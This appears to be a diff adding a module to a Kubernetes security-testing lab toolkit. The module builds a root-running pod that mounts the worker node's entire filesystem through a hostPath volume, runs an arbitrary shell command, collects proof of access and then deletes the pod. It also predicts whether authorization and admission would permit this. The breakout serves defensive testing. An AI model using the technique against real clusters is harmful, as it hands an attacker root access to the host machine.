@@ -1,0 +1,131 @@
+"""A pod that mounts the whole of its machine's files: what the breakouts have in common."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Callable
+from typing import TYPE_CHECKING, Any
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import View
+from labkit.model.pod_security import host_paths
+from labkit.model.rights import Action, restricted
+from labkit.techniques._access import api_url, apiserver_of, caller_at, may_all, options_at
+from labkit.techniques._ask import ask
+from labkit.techniques._base import Prediction
+from labkit.techniques._reach import Answer, request
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["MACHINE", "WORKER", "break_out", "may_break_out"]
+
+NAMESPACE, NAME, WORKER = "default", "labkit-breakout", "worker1"
+PODS = f"/api/v1/namespaces/{NAMESPACE}/pods"
+#: Where the machine's files are in the pod.
+MACHINE = "/machine"
+PATIENCE, ROOT, NOBODY_SPECIAL = 30.0, 0, 1000
+ACTION = Action("create", "pods", namespace=NAMESPACE)
+
+
+def may_break_out(view: View, foothold: str) -> Prediction:
+    """Predict whether a caller may create such a pod: the authorizers, then the admission."""
+    apiserver, caller = apiserver_of(view.env), caller_at(view.env, foothold)
+    allowed = may_all(view, caller, [ACTION])
+    if not allowed.succeeds:
+        return allowed
+    if objection := restricted(apiserver, caller):
+        return Prediction(False, (str(objection),))
+    admitted = host_paths(view.env, apiserver, NAMESPACE)
+    if admitted.value != "admitted":
+        return Prediction(False, (str(admitted),))
+    return Prediction(True, (*allowed.because, str(admitted)))
+
+
+def break_out(
+    lab: Lab,
+    technique: str,
+    foothold: str,
+    command: str,
+    proof: Callable[[str], str],
+    user: int = ROOT,
+) -> Verdict:
+    """Create the pod, wait for what its command leaves behind, and remove it.
+
+    Parameters
+    ----------
+    lab : Lab
+    technique, foothold : str
+    command : str
+        For a shell in the pod; what it writes to ``/dev/termination-log`` is shown to `proof`.
+    proof : callable
+        Says what the attacker has by it; raises :class:`ProbeError` where that is nothing.
+    user : int
+        Whose number the pod runs as.
+
+    Returns
+    -------
+    Verdict
+    """
+    try:
+        return ask(
+            lab,
+            technique,
+            foothold,
+            api_url(lab, PODS),
+            body=json.dumps(_pod(command, user)).encode(),
+            options=options_at(lab.environment, foothold),
+            proof=lambda answer: proof(_left(lab, answer)),
+            control=lambda: _control(lab, foothold),
+        )
+    finally:
+        lab.kubectl("delete", "pod", NAME, f"--namespace={NAMESPACE}", "--ignore-not-found",
+                    "--force", "--grace-period=0")  # fmt: skip
+
+
+def _pod(command: str, user: int, harmless: bool = False) -> dict[str, Any]:
+    container: dict[str, Any] = {
+        "name": "breakout",
+        "image": "labkit/workload:1",
+        "imagePullPolicy": "Never",
+        "command": ["sh", "-c", command],
+        "securityContext": {"runAsUser": user},
+    }
+    spec = {
+        "nodeName": WORKER,
+        "restartPolicy": "Never",
+        "automountServiceAccountToken": False,
+        "containers": [container],
+    }
+    if not harmless:
+        container["volumeMounts"] = [{"name": "machine", "mountPath": MACHINE}]
+        spec["volumes"] = [{"name": "machine", "hostPath": {"path": "/"}}]
+    metadata = {"name": NAME, "namespace": NAMESPACE}
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}
+
+
+def _left(lab: Lab, answer: Answer) -> str:
+    """Wait for the pod's end, and return what it left behind."""
+    if json.loads(answer.body).get("kind") != "Pod":
+        raise ProbeError("the apiserver answered, but not with the pod")
+    path = "{.status.containerStatuses[0].state.terminated.message}"
+    get = ("get", "pod", NAME, f"--namespace={NAMESPACE}", f"--output=jsonpath={path}")
+    deadline = time.monotonic() + PATIENCE
+    while not (said := lab.kubectl(*get).text):
+        if time.monotonic() > deadline:
+            raise ProbeTimeout(f"the pod did not run within {PATIENCE:g} s")
+        time.sleep(0.2)
+    return said
+
+
+def _control(lab: Lab, foothold: str) -> str:
+    """Show, after a refusal, that a pod that asks for nothing of its machine may be created."""
+    body = json.dumps(_pod("true", NOBODY_SPECIAL, harmless=True)).encode()
+    options = options_at(lab.environment, foothold)
+    url = api_url(lab, f"{PODS}?dryRun=All")
+    if not request(lab, url, foothold=foothold, body=body, options=options).refusal:
+        return "the same caller may create a pod that mounts nothing (a dry run)"
+    lab.kubectl("create", "--dry-run=server", "--filename=-", stdin=body)
+    return "the administrator may create a pod that mounts nothing (a dry run)"
